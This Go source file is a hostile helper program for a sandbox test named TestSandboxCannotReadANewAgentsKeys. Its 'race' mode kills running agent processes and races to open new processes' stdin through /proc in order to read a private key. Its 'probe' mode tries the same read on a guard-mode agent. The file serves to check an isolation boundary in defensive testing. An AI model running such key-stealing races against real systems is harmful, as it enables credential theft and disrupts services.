// Command stealkeys is a hostile command for TestSandboxCannotReadANewAgentsKeys:
// run inside a sandbox, it tries to read the keys preamble the gateway
// writes to a new in-container agent's stdin, as a command of that
// sandbox (same uid) could.
//
//	stealkeys probe AGENT   start AGENT as a child that waits on its stdin
//	                        (the agent's guard mode), as a new agent is before
//	                        its own code runs, and try to open its stdin
//	stealkeys race AGENT    kill the running agent, then hammer every new
//	                        process's stdin while the gateway attaches a
//	                        replacement, and read what arrives there
package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"
	"time"
)

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: stealkeys probe|race AGENT")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "probe":
		probe(os.Args[2])
	case "race":
		race(os.Args[2])
	default:
		fmt.Fprintln(os.Stderr, "usage: stealkeys probe|race AGENT")
		os.Exit(2)
	}
}

func probe(agent string) {
	cmd := exec.Command(agent, "__hostgate_guard")
	w, err := cmd.StdinPipe()
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	if err := cmd.Start(); err != nil {
		fmt.Println("error:", err)
		return
	}
	defer func() { _ = w.Close(); _ = cmd.Wait() }()
	// The child has exec'd once /proc/PID/exe names the agent (before,
	// it is this binary's fork).
	exe := ""
	for range 1000 {
		if exe, _ = os.Readlink(fmt.Sprintf("/proc/%d/exe", cmd.Process.Pid)); exe == agent {
			break
		}
		time.Sleep(time.Millisecond)
	}
	f, err := os.Open(fmt.Sprintf("/proc/%d/fd/0", cmd.Process.Pid))
	if err != nil {
		fmt.Println("denied:", err)
		return
	}
	_ = f.Close()
	fmt.Println("opened the stdin of", agent)
}

func race(agent string) {
	old := map[int]bool{}
	for _, pid := range pids() {
		old[pid] = true
		if strings.HasPrefix(cmdline(pid), agent+" serve") {
			_ = syscall.Kill(pid, syscall.SIGKILL)
			fmt.Println("killed agent", pid)
		}
	}
	self := os.Getpid()
	var held []*os.File
	var seen []string
	lastErr := "none"
	deadline := time.Now().Add(15 * time.Second)
	for time.Now().Before(deadline) && len(held) == 0 {
		for _, pid := range pids() {
			if old[pid] || pid == self {
				continue
			}
			f, err := os.OpenFile("/proc/"+strconv.Itoa(pid)+"/fd/0", os.O_RDONLY|syscall.O_NONBLOCK, 0)
			if err != nil {
				lastErr = err.Error()
				if c := cmdline(pid); strings.HasPrefix(c, agent+" serve") {
					// Its own code has run: it is protected by now
					// either way, so the window is over.
					seen = append(seen, strconv.Itoa(pid))
					old[pid] = true
					deadline = time.Now().Add(time.Second)
				}
				continue
			}
			held = append(held, f)
			fmt.Println("opened the stdin of", pid, cmdline(pid))
		}
	}
	if len(held) == 0 {
		fmt.Printf("no stdin opened; new agents %v, last error %s\n", seen, lastErr)
		return
	}
	var got bytes.Buffer
	buf := make([]byte, 64<<10)
	for end := time.Now().Add(5 * time.Second); time.Now().Before(end) && got.Len() < 1<<20; {
		for _, f := range held {
			if n, _ := f.Read(buf); n > 0 {
				got.Write(buf[:n])
			}
		}
		if bytes.Contains(got.Bytes(), []byte("PRIVATE KEY")) {
			break
		}
		time.Sleep(time.Millisecond)
	}
	fmt.Printf("read %d bytes; host key: %v\n", got.Len(), bytes.Contains(got.Bytes(), []byte("PRIVATE KEY")))
}

func pids() []int {
	d, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	defer d.Close()
	names, _ := d.Readdirnames(-1)
	var out []int
	for _, n := range names {
		if pid, err := strconv.Atoi(n); err == nil {
			out = append(out, pid)
		}
	}
	return out
}

func cmdline(pid int) string {
	b, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/cmdline")
	return strings.TrimRight(strings.ReplaceAll(string(b), "\x00", " "), " ")
}
